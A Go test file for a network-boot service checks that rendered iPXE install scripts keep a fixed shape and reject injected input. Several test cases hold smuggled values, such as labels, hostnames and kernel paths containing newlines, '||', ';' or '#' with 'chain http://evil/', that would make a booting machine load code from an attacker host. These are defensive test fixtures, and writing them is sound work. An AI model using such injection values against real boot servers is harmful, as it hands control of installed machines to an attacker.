package profile

import (
	"fmt"
	"strings"
	"testing"
)

// checkScript asserts the shape of every install script: #!ipxe, the
// echo, one initrd line per initrd, the kernel line and boot, and no
// line, command or comment any value could have added.
func checkScript(t *testing.T, p *Profile, script []byte) {
	t.Helper()
	lines := strings.Split(string(script), "\n")
	if len(lines) != 5+len(p.Initrd) || lines[len(lines)-1] != "" {
		t.Fatalf("script has %d lines, want %d:\n%s", len(lines)-1, 4+len(p.Initrd), script)
	}
	prefixes := []string{"#!ipxe", "echo bootstrapd: installing "}
	for i := range p.Initrd {
		prefixes = append(prefixes, fmt.Sprintf("initrd --name initrd%d ", i))
	}
	prefixes = append(prefixes, "kernel ", "boot")
	for i, pre := range prefixes {
		if !strings.HasPrefix(lines[i], pre) {
			t.Fatalf("line %d %q does not start %q:\n%s", i+1, lines[i], pre, script)
		}
	}
	if lines[len(lines)-2] != "boot" {
		t.Fatalf("last line %q, want boot", lines[len(lines)-2])
	}
	for i, line := range lines[1:] {
		if strings.ContainsFunc(line, func(r rune) bool { return r < ' ' || r == 0x7f }) || strings.HasSuffix(line, `\`) {
			t.Fatalf("line %d %q has a control character or joins the next", i+2, line)
		}
		for _, w := range strings.Fields(line) {
			if w == "||" || w == "&&" || w == ";" || strings.HasPrefix(w, "#") {
				t.Fatalf("line %d %q has the iPXE operator %q", i+2, line, w)
			}
		}
	}
}

func TestIPXEScript(t *testing.T) {
	dir := writeFiles(t, map[string]string{"p.hcl": `
profile "two" {
  kernel  = "void/vmlinuz"
  initrd  = ["void/initrd", "void-x86_64-20250202/extra.img"]
  cmdline = "root=/dev/null auto autourl={{.ConfigURL}}/autoinstall.cfg {{with index .Labels \"extra\"}}{{.}}{{end}}"
}
profile "bare" {
  kernel = "vmlinuz"
}
`})
	ps, err := LoadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	d := Data{MAC: "52:54:00:aa:bb:cc", Hostname: "n7", IP: "10.77.0.7", Server: "http://10.77.0.1:8080",
		ConfigURL: "http://10.77.0.1:8080/install/TOK/config", Labels: map[string]string{}}
	with := func(f func(*Data)) Data {
		c := d
		c.Labels = map[string]string{}
		f(&c)
		return c
	}
	cases := []struct {
		name, profile string
		data          Data
		want          string // the script, or with err set a part of the error
		err           bool
	}{
		{"two initrds", "two", d, `#!ipxe
echo bootstrapd: installing n7 (52:54:00:aa:bb:cc) with profile two
initrd --name initrd0 http://10.77.0.1:8080/assets/void/initrd
initrd --name initrd1 http://10.77.0.1:8080/assets/void-x86_64-20250202/extra.img
kernel http://10.77.0.1:8080/assets/void/vmlinuz initrd=initrd0 initrd=initrd1 root=/dev/null auto autourl=http://10.77.0.1:8080/install/TOK/config/autoinstall.cfg
boot
`, false},
		{"no initrd, no command line", "bare", d, `#!ipxe
echo bootstrapd: installing n7 (52:54:00:aa:bb:cc) with profile bare
kernel http://10.77.0.1:8080/assets/vmlinuz
boot
`, false},
		// A label's white space, line breaks included, only separates
		// kernel arguments: the command line is split into words.
		{"label with line breaks", "two", with(func(d *Data) { d.Labels["extra"] = "a\nb\r\nc\u2028d" }), "initrd=initrd1 root=/dev/null auto autourl=http://10.77.0.1:8080/install/TOK/config/autoinstall.cfg a b c d\nboot\n", false},
		{"hostname with a newline", "two", with(func(d *Data) { d.Hostname = "n7\nchain http://evil/" }), "hostname", true},
		{"hostname with a carriage return", "bare", with(func(d *Data) { d.Hostname = "n7\r" }), "hostname", true},
		{"hostname ending in a backslash", "bare", with(func(d *Data) { d.Hostname = `n7\` }), "backslash", true},
		{"MAC with a space", "bare", with(func(d *Data) { d.MAC = "52:54 ||" }), "MAC", true},
		{"server with a space", "two", with(func(d *Data) { d.Server = "http://x/ ; chain http://evil" }), "server URL", true},
		{"label that chains", "two", with(func(d *Data) { d.Labels["extra"] = "quiet || chain http://evil/" }), "another iPXE command", true},
		{"label that comments out", "two", with(func(d *Data) { d.Labels["extra"] = "#" }), "comment", true},
		{"label ending in a backslash", "two", with(func(d *Data) { d.Labels["extra"] = `x\` }), "backslash", true},
		{"label with NUL", "two", with(func(d *Data) { d.Labels["extra"] = "a\x00b" }), "control character", true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p := ps[c.profile]
			out, err := p.IPXEScript(c.data)
			if c.err {
				if err == nil || !strings.Contains(err.Error(), c.want) {
					t.Fatalf("IPXEScript = %q, %v; want an error mentioning %q", out, err, c.want)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			checkScript(t, p, out)
			if !strings.HasSuffix(string(out), c.want) {
				t.Fatalf("script:\n%s\nwant it to end:\n%s", out, c.want)
			}
		})
	}
}

// TestIPXEScriptChecksProfile: a Profile not from LoadDir (a test's, say,
// with no command line template) still cannot put a bad path or name into
// a script.
func TestIPXEScriptChecksProfile(t *testing.T) {
	d := Data{MAC: "52:54:00:aa:bb:cc", Hostname: "n7", Server: "http://s"}
	for _, p := range []*Profile{
		{Name: "k", Kernel: "vmlinuz\nchain http://evil/"},
		{Name: "i", Kernel: "vmlinuz", Initrd: []string{"initrd\n"}},
		{Name: "n\n", Kernel: "vmlinuz"},
	} {
		if out, err := p.IPXEScript(d); err == nil {
			t.Errorf("%+v rendered:\n%s", p, out)
		}
	}
	if out, err := (&Profile{Name: "ok", Kernel: "vmlinuz"}).IPXEScript(d); err != nil || !strings.HasSuffix(string(out), "kernel http://s/assets/vmlinuz\nboot\n") {
		t.Errorf("a Profile literal: %q, %v", out, err)
	}
}
